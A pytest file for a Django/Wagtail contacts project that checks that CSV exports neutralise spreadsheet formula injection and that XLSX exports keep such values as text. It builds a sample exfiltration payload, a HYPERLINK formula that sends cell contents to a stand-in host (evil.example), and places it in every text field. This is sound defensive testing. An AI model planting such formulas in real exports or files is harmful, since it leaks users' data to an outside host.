"""CSV exports never hand a spreadsheet a formula (CSV injection, issue #12).

A cell that begins with =, +, -, @, a tab or a carriage return is read as a formula by Excel and
LibreOffice. Every CSV export (the engagement log's listings and reports, Wagtail's own reports) writes
such a cell with a leading single quote, headings included; the XLSX exports keep the text as it is
(Wagtail already stores it there as text, never as a formula).
"""

import csv
import hashlib
import inspect
import io

import openpyxl
import pytest
from django.test import Client
from django.urls import reverse
from django.utils import translation
from wagtail.admin.views.mixins import SpreadsheetExportMixin

from contacts.models import Organisation
from tests.factories import ThemeFactory

pytestmark = [pytest.mark.django_db, pytest.mark.usefixtures("english_admin")]

DANGEROUS = ("=", "+", "-", "@", "\t", "\r")
CHARACTER_IDS = ["equals", "plus", "minus", "at", "tab", "carriage-return"]


def payload(character):
    return f'{character}HYPERLINK("http://evil.example/?leak="&A1,"Open")'


def download(response):
    assert response.status_code == 200, response
    if not response.streaming:
        return response.content
    # Streamed rows are written after the view returns: read them in the staff user's language.
    with translation.override("en"):
        return b"".join(response.streaming_content)


def csv_rows(response):
    assert response["Content-Type"].startswith("text/csv")
    return list(csv.reader(io.StringIO(download(response).decode("utf-8-sig"), newline="")))


def xlsx_rows(response):
    workbook = openpyxl.load_workbook(io.BytesIO(download(response)))
    return [list(row) for row in workbook.active.iter_rows(values_only=True)]


def assert_no_formula(rows):
    for row in rows:
        for cell in row:
            assert not cell.startswith(DANGEROUS), f"a formula left in an export: {cell!r} in {row}"


def listing(model):
    return reverse(f"wagtailsnippets_contacts_{model}:list")


@pytest.fixture
def dangerous_log(contact_factory, engagement_factory, medellin):
    """A contact, an engagement and an organisation whose every text field begins with the character."""

    def make(character):
        text = payload(character)
        organisation = Organisation.objects.create(name=text, notes=text)
        contact = contact_factory(
            text,
            text,
            emails=["someone@example.org"],
            job_title=text,
            organisation=organisation,
            city=medellin,
        )
        engagement = engagement_factory(
            text,
            [medellin],
            participants=[contact],
            organisations=[organisation],
            summary=text,
            outcome=text,
        )
        return {"organisation": organisation, "contact": contact, "engagement": engagement}

    return make


@pytest.mark.parametrize("character", DANGEROUS, ids=CHARACTER_IDS)
def test_the_engagement_log_listings_export_no_formula(staff_client, dangerous_log, character):
    dangerous_log(character)
    quoted = "'" + payload(character)

    engagements = csv_rows(staff_client.get(listing("engagement"), {"export": "csv"}))
    assert_no_formula(engagements)
    heading, *rows = engagements
    by_title = {row[heading.index("Title")]: dict(zip(heading, row, strict=True)) for row in rows}
    row = by_title[quoted]
    for column in ("Title", "Summary", "Outcome", "Organisations", "Participants"):
        assert row[column].startswith(quoted), column

    contacts = csv_rows(staff_client.get(listing("contact"), {"export": "csv"}))
    assert_no_formula(contacts)
    heading, *rows = contacts
    by_job_title = {row[heading.index("Job title")]: dict(zip(heading, row, strict=True)) for row in rows}
    row = by_job_title[quoted]
    for column in ("Given name", "Family name", "Job title", "Organisation"):
        assert row[column] == quoted, column

    organisations = csv_rows(staff_client.get(listing("organisation"), {"export": "csv"}))
    assert_no_formula(organisations)
    assert quoted in [row[0] for row in organisations[1:]]


@pytest.mark.parametrize("character", DANGEROUS, ids=CHARACTER_IDS)
def test_the_xlsx_exports_keep_the_text_as_it_is(staff_client, dangerous_log, character):
    dangerous_log(character)
    # XML reads a lone carriage return as a line feed: openpyxl's doing, as before.
    text = payload(character).replace("\r", "\n")

    engagements = xlsx_rows(staff_client.get(listing("engagement"), {"export": "xlsx"}))
    assert text in [row[engagements[0].index("Title")] for row in engagements[1:]]
    contacts = xlsx_rows(staff_client.get(listing("contact"), {"export": "xlsx"}))
    assert [text, text] in [row[1:3] for row in contacts[1:]]
    organisations = xlsx_rows(staff_client.get(listing("organisation"), {"export": "xlsx"}))
    assert text in [row[0] for row in organisations[1:]]


def test_the_xlsx_export_stores_the_text_as_text_not_as_a_formula(staff_client, dangerous_log):
    dangerous_log("=")
    response = staff_client.get(listing("organisation"), {"export": "xlsx"})
    sheet = openpyxl.load_workbook(io.BytesIO(download(response))).active
    [cell] = [row[0] for row in sheet.iter_rows(min_row=2) if row[0].value == payload("=")]
    assert cell.data_type == "s"


def test_report_headings_and_cells_are_neutralised_too(staff_client, make_city):
    """The theme coverage report names its columns after the themes, which staff name (a new theme, not
    translated: its name in every language)."""
    ThemeFactory(name=payload("="), slug="formula")
    make_city(payload("@"))
    report = reverse("contacts_theme_coverage:index")

    rows = csv_rows(staff_client.get(report, {"export": "csv"}))

    assert_no_formula(rows)
    assert f"'{payload('=')}: engagements" in rows[0]
    assert "'" + payload("@") in [row[0] for row in rows[1:]]
    rows = xlsx_rows(staff_client.get(report, {"export": "xlsx"}))
    assert f"{payload('=')}: engagements" in rows[0]


def test_wagtails_own_site_history_export_is_neutralised(superuser, make_city):
    """Wagtail's reports (site history, aging pages, workflows...) write page titles
    and user names, which editors and focal points choose."""
    make_city(payload("="))
    client = Client(HTTP_ACCEPT_LANGUAGE="en")
    client.force_login(superuser)

    rows = csv_rows(client.get(reverse("wagtailadmin_reports:site_history"), {"export": "csv"}))

    assert_no_formula(rows)
    assert "'" + payload("=") in [row[rows[0].index("Name")] for row in rows[1:]]


def test_numbers_and_dates_are_written_as_they_are():
    from network import csv_export

    assert csv_export.neutralise(-3) == -3
    assert csv_export.neutralise(-2.5) == -2.5
    assert csv_export.neutralise(None) is None
    assert csv_export.neutralise("-3") == "'-3"
    assert csv_export.neutralise("Medellín") == "Medellín"
    assert csv_export.neutralise("") == ""


# The copy of Wagtail's SpreadsheetExportMixin.stream_csv in network/csv_export.py (docs/upgrading.md)
# was made from this version of it.
WAGTAIL_STREAM_CSV_SHA256 = "a560e82f7b810ee098c64857396a1f51bdc8b53b26292cb0d41684f94ca4e4cb"


def test_wagtails_stream_csv_is_still_the_one_we_copied():
    """When this fails, Wagtail changed SpreadsheetExportMixin.stream_csv: carry the change into
    network/csv_export.py (keeping its writer), then record the new digest here."""
    from network import csv_export

    assert SpreadsheetExportMixin.stream_csv is csv_export.stream_csv
    source = inspect.getsource(csv_export.stream_csv.wagtail_original)
    assert hashlib.sha256(source.encode()).hexdigest() == WAGTAIL_STREAM_CSV_SHA256, source
